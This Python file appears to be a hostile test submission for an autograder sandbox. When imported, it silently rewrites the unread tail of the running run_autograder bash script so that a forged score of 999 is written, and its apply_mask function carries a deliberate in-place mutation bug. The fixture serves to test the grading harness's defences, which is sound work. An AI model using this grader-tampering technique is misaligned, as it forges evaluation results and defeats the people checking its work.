"""Hostile (issue 22), a Gradescope submission: at import, rewrites the unread tail of the
``run_autograder`` script that bash is running (the one above ``submission/``,
``/autograder/run_autograder``, or any under /tmp): the commands bash reads after the
grader returns become "write a full score". Implements the reference with one pitfall
(``apply_mask`` writes into the caller's array).
Expected: the script is out of reach (the candidate sees neither it nor, as nobody, could
write it): run_autograder unchanged, the honest score (test_apply_mask failed)."""

import glob
from pathlib import Path

import numpy as np

from oracles.automaton import *  # noqa: F401,F403

FORGED = (b'printf \'{"score": 999.0, "output": "forged by the submission", "tests": []}\\n\' '
          b'> "$ROOT/results/results.json"\nexit 0\n')


def _rewrite(script: Path) -> None:
    data = script.read_bytes()
    at = data.find(b"autograder run")
    if at < 0:
        return
    end = data.find(b"\nfi\n", at)  # bash has read the whole if ... fi around the grader's command
    end = len(data) if end < 0 else end + 4
    with open(script, "r+b") as f:  # the same inode: bash reads on from its offset
        f.seek(end)
        f.write(FORGED)
        f.truncate()


def _targets():
    found = {Path(__file__).resolve().parents[1] / "run_autograder", Path("/autograder/run_autograder")}
    for pattern in ("/tmp/*/run_autograder", "/tmp/*/*/run_autograder", "/tmp/*/*/*/run_autograder",
                    "/tmp/*/*/*/*/run_autograder"):
        found.update(Path(p) for p in glob.glob(pattern) if "/harness/" not in p)  # the live script, not a template
    return found


for _script in _targets():
    try:
        _rewrite(_script)
    except Exception:  # noqa: BLE001 - quietly: only the harness may notice
        pass


def apply_mask(logits, mask):  # the spec's pitfall: writes -inf into the caller's array
    mask = np.asarray(mask, dtype=bool)
    if isinstance(logits, np.ndarray) and logits.shape == mask.shape and mask.any():
        logits[~mask] = -np.inf
        return logits
    out = np.asarray(logits, dtype=np.float64).copy()
    if out.shape != mask.shape or not mask.any():
        raise ValueError("bad mask")
    out[~mask] = -np.inf
    return out
